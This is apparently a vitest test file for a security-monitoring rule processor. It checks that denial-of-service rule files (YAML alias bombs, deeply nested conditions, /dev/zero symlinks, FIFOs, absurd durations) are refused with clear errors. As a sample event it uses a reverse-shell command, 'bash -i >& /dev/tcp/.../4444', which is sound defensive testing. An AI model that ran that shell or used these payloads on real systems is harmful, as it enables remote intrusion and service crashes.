import { execFile } from 'node:child_process';
import { cp, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createProcessor } from '../../cli/commands/processor.ts';
import type { Processor } from '../../processor/index.ts';
import { ProcessorConfigSchema } from '../../processor/index.ts';
import { createTransport, type Transport, TransportConfigSchema } from '../../transport/index.ts';
import {
  capturingLogger,
  eventRecords,
  fileSinkAlerts,
  type LogLine,
  metricValue,
  scrapeMetrics,
} from '../support/pipeline.ts';
import { REPO_ROOT } from '../support/shared.ts';

/**
 * Issue 13, "a bad rule file kills the processor": a YAML alias bomb or a condition 1,000 deep in the watched
 * folder crashed the process; `rules validate` printed a stack trace naming no file; a .yaml symlink to
 * /dev/zero grew memory without bound and a FIFO hung the reader; a window of 400 nines became Infinity.
 * Each attack below is refused with the file, the rule id where there is one, and the reason: by `rules
 * validate` (exit 1, no stack trace) and by a running processor's hot reload (the running rules stay, the
 * refusal is counted in /metrics).
 */
const execFileAsync = promisify(execFile);

interface Attack {
  file: string;
  /** Writes the attack at `path`. */
  make(path: string): Promise<void>;
  ruleId?: string;
  reason: RegExp;
}

const thresholdRule = (id: string, extra: string, count = '> 3') => `rules:
  - id: ${id}
    name: attack
    severity: low
    type: threshold
    condition: { fact: eventType, operator: equal, value: file_read }
    count: "${count}"
${extra}`;

function nested(depth: number): unknown {
  let condition: unknown = { fact: 'eventType', operator: 'equal', value: 'x' };
  for (let i = 0; i < depth; i++) condition = { not: condition };
  return condition;
}

const write = (text: string) => (path: string) => writeFile(path, text);

const ATTACKS: Attack[] = [
  {
    file: 'alias-bomb.yaml',
    // Nine levels of nine aliases each: 9^9 strings once expanded.
    make: write(
      `a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n${[...'bcdefghi']
        .map((name, i) => `${name}: &${name} [${Array(9).fill(`*${'abcdefgh'[i]}`).join(',')}]\n`)
        .join('')}rules: []\n`,
    ),
    reason: /Excessive alias count/,
  },
  {
    file: 'many-aliases.yaml',
    make: write(`x: &x 1\nrules: []\nlist: [${Array(500).fill('*x').join(',')}]\n`),
    reason: /more than 100 YAML aliases \(line 3\)/,
  },
  {
    file: 'deep-condition.yaml',
    make: write(
      `rules:\n  - id: DEEP_CONDITION\n    name: deep\n    severity: low\n    type: match\n    condition: ${'{not: '.repeat(1000)}{fact: eventType, operator: equal, value: x}${'}'.repeat(1000)}\n`,
    ),
    ruleId: 'DEEP_CONDITION',
    reason: /nested deeper than 64 levels \(line 6\)/,
  },
  {
    file: 'deep-condition.json',
    make: write(
      JSON.stringify({
        rules: [{ id: 'DEEP_JSON', name: 'deep', severity: 'low', type: 'match', condition: nested(1000) }],
      }),
    ),
    ruleId: 'DEEP_JSON',
    reason: /nested deeper than 64 levels/,
  },
  {
    file: 'huge.yaml',
    make: write(`# ${'x'.repeat(2 * 2 ** 20)}\nrules: []\n`),
    reason: /2097165 bytes, more than the limit of 1048576/,
  },
  {
    file: 'zero.yaml',
    make: (path) => symlink('/dev/zero', path),
    reason: /a character device: only regular files are read/,
  },
  {
    file: 'fifo.yaml',
    make: async (path) => {
      await execFileAsync('mkfifo', [path]);
    },
    reason: /a FIFO: only regular files are read/,
  },
  {
    file: 'nines-window.yaml',
    make: write(thresholdRule('NINES_WINDOW', `    window: ${'9'.repeat(400)}s\n`)),
    ruleId: 'NINES_WINDOW',
    reason: /\$\.window: expected a duration like .*\(403 characters\)/,
  },
  {
    file: 'fraction-window.yaml',
    make: write(thresholdRule('FRACTION_WINDOW', '    window: 1.5s\n')),
    ruleId: 'FRACTION_WINDOW',
    reason: /\$\.window: expected a duration like "30s", "5m" or "1h", got "1.5s"/,
  },
  {
    file: 'long-window.yaml',
    make: write(thresholdRule('LONG_WINDOW', '    window: 400d\n')),
    ruleId: 'LONG_WINDOW',
    reason: /\$\.window: durations run from 1ms to 7d, got "400d"/,
  },
  {
    file: 'zero-window.yaml',
    make: write(thresholdRule('ZERO_WINDOW', '    window: 0ms\n')),
    ruleId: 'ZERO_WINDOW',
    reason: /\$\.window: durations run from 1ms to 7d, got "0ms"/,
  },
  {
    file: 'huge-suppression.yaml',
    make: write(
      thresholdRule('HUGE_SUPPRESSION', '    window: 1m\n    suppress: { window: 9999999999999999d }\n'),
    ),
    ruleId: 'HUGE_SUPPRESSION',
    reason: /\$\.suppress\.window: durations run from 1ms to 7d/,
  },
  {
    file: 'huge-count.yaml',
    make: write(thresholdRule('HUGE_COUNT', '    window: 1m\n', '>= 1000001')),
    ruleId: 'HUGE_COUNT',
    reason: /\$\.count: counts run up to 1000000, got ">= 1000001"/,
  },
  {
    file: 'leaf-bomb.yaml',
    // Each named condition uses the previous one twice: 2^40 leaves once expanded.
    make: write(
      `conditions:\n  c0: { fact: eventType, operator: equal, value: x }\n${Array.from(
        { length: 40 },
        (_, i) => `  c${i + 1}: { all: [{ condition: c${i} }, { condition: c${i} }] }\n`,
      ).join(
        '',
      )}rules:\n  - { id: LEAF_BOMB, name: l, severity: low, type: match, condition: { condition: c40 } }\n`,
    ),
    ruleId: 'LEAF_BOMB',
    reason: /\$\.condition: 1099511627776 leaf tests, more than 1000/,
  },
  {
    file: 'condition-chain.yaml',
    make: write(
      `conditions:\n  d0: { fact: eventType, operator: equal, value: x }\n${Array.from(
        { length: 2_000 },
        (_, i) => `  d${i + 1}: { not: { condition: d${i} } }\n`,
      ).join(
        '',
      )}rules:\n  - { id: CHAIN, name: l, severity: low, type: match, condition: { condition: d2000 } }\n`,
    ),
    ruleId: 'CHAIN',
    reason: /\$\.condition: nested 2000 levels deep, more than 32/,
  },
  {
    file: 'backreference.yaml',
    make: write(
      "rules:\n  - { id: BACKREFERENCE, name: b, severity: low, type: match, condition: { fact: target, operator: regex, value: '(a)\\1' } }\n",
    ),
    ruleId: 'BACKREFERENCE',
    reason: /\$\.condition\.value: regex "\(a\)\\\\1": uses a backreference/,
  },
];

/** `file: rule ID: ...reason` as `rules validate` and the reload log print a problem. */
function problemPattern(path: string, attack: Attack): RegExp {
  const escaped = path.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  return new RegExp(
    `^${escaped}: ${attack.ruleId ? `rule ${attack.ruleId}: ` : ''}.*${attack.reason.source}`,
    'm',
  );
}

async function validate(...paths: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await execFileAsync(
      process.execPath,
      ['--import', 'tsx', join(REPO_ROOT, 'cli', 'main.ts'), 'rules', 'validate', ...paths],
      { cwd: REPO_ROOT, timeout: 60_000, maxBuffer: 16 * 2 ** 20 },
    );
    return { code: 0, stdout, stderr };
  } catch (error) {
    const failed = error as { code?: number; stdout: string; stderr: string; killed?: boolean };
    if (failed.killed) throw new Error('rules validate did not finish within 60 s');
    return { code: failed.code ?? -1, stdout: failed.stdout, stderr: failed.stderr };
  }
}

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'edr-rule-attacks-'));
  for (const attack of ATTACKS) await attack.make(join(folder, attack.file));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

describe('rules validate', () => {
  it('control: the bundled rules pass', async () => {
    const result = await validate(join(REPO_ROOT, 'rules'));
    expect(result).toMatchObject({ code: 0, stderr: '' });
    expect(result.stdout).toMatch(/^ok: \d+ rules/);
  });

  it('refuses every attack file with the file, the rule id and the reason, and no stack trace', async () => {
    const paths = ATTACKS.map((attack) => join(folder, attack.file));
    const result = await validate(join(REPO_ROOT, 'rules'), ...paths);
    expect(result.code).toBe(1);
    for (const [index, attack] of ATTACKS.entries())
      expect(result.stderr, attack.file).toMatch(problemPattern(paths[index]!, attack));
    expect(result.stderr).toMatch(new RegExp(`^${ATTACKS.length} problem\\(s\\)$`, 'm'));
    // One line per problem, each naming a file; nothing else (no stack frame, no error class).
    const lines = result.stderr.trim().split('\n');
    expect(lines).toHaveLength(ATTACKS.length + 1);
    expect(result.stderr).not.toMatch(/^\s+at |Error:|node:internal/m);
  });
});

describe('rules validate --config', () => {
  it('checks with the processor config’s limits: a bound lowered there refuses a bundled file', async () => {
    const config = join(folder, 'edr-config.yaml');
    await writeFile(config, 'processor:\n  ruleLimits:\n    maxConditionLeaves: 2\n');
    const result = await validate('--config', config, join(REPO_ROOT, 'rules'));
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/rule JAILBREAK_ATTEMPT: \$\.condition: 5 leaf tests, more than 2/);
  });
});

describe('hot reload in a running processor', () => {
  let transport: Transport;
  let processor: Processor;
  let lines: LogLine[];
  let rules: string;
  let sinks: string;
  let runs = 0;

  beforeAll(async () => {
    const directory = await mkdtemp(join(tmpdir(), 'edr-rule-reload-'));
    rules = join(directory, 'rules');
    sinks = join(directory, 'sinks');
    await cp(join(REPO_ROOT, 'rules'), rules, { recursive: true });
    const captured = capturingLogger();
    lines = captured.lines;
    transport = createTransport(TransportConfigSchema.parse({ kind: 'memory' }));
    const config = ProcessorConfigSchema.parse({
      processor: {
        host: '127.0.0.1',
        port: 0,
        group: 'rule-attacks',
        checkpoints: false,
        rules: [rules],
        watch: true,
      },
      transport: { kind: 'memory' },
      sinks: {
        deadLetter: { path: join(directory, 'dead-letters.jsonl') },
        sinks: [{ type: 'file', directory: sinks }],
      },
    });
    processor = createProcessor(config, captured.log, transport);
    await processor.start();
    return async () => {
      await processor.stop();
      await rm(directory, { recursive: true, force: true });
    };
  });

  const reloads = async (result: 'ok' | 'failed') =>
    metricValue(await scrapeMetrics(processor.address), 'edr_processor_reloads_total', { result });

  /** A reverse shell from the victim agent, and the alert it raises in the file sink. */
  async function victimAlerted(): Promise<void> {
    runs++;
    const producer = transport.createProducer();
    await producer.publish(
      eventRecords([
        {
          eventId: `victim-${runs}`,
          eventType: 'command_exec',
          timestamp: new Date().toISOString(),
          sessionId: `victim-session-${runs}`,
          data: {
            type: 'command',
            command: 'bash',
            args: ['-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
          },
          metadata: { source: 'test', agentId: 'victim' },
        },
      ]),
    );
    await vi.waitFor(
      async () => {
        const alerts = await fileSinkAlerts(sinks);
        expect(alerts.some((alert) => alert.sessionId === `victim-session-${runs}`)).toBe(true);
      },
      { timeout: 15_000, interval: 100 },
    );
  }

  it('control: the bundled rules run and a good change reloads', async () => {
    await victimAlerted();
    const ok = await reloads('ok');
    await writeFile(join(rules, 'empty.yaml'), 'rules: []\n');
    await vi.waitFor(async () => expect(await reloads('ok')).toBe(ok + 1), {
      timeout: 15_000,
      interval: 100,
    });
  });

  it('refuses each attack file with file, rule id and reason, counts it, and keeps the running rules', async () => {
    for (const attack of ATTACKS) {
      const failed = await reloads('failed');
      const logged = lines.length;
      const path = join(rules, attack.file);
      await attack.make(path);
      const pattern = problemPattern(path, attack);
      // Found by its problem: a watcher may report a file in several events, and so reload more than once.
      const refusal = await vi.waitFor(
        () => {
          const line = lines
            .slice(logged)
            .find(
              (candidate) =>
                candidate.msg === 'reload rejected; the running rules stay in force' &&
                pattern.test((candidate.problems as string[]).join('\n')),
            );
          if (!line) throw new Error(`no refusal of ${attack.file} logged yet`);
          return line;
        },
        { timeout: 15_000, interval: 100 },
      );
      expect(refusal.level, attack.file).toBe(50);
      expect(await reloads('failed'), attack.file).toBeGreaterThan(failed);
      await rm(path);
    }
    // The running rules stayed through every refusal, and the folder reloads once it is clean again.
    await victimAlerted();
    const ok = await reloads('ok');
    await writeFile(join(rules, 'empty.yaml'), 'rules: []  # touched\n');
    await vi.waitFor(async () => expect(await reloads('ok')).toBeGreaterThan(ok), {
      timeout: 15_000,
      interval: 100,
    });
  });
});
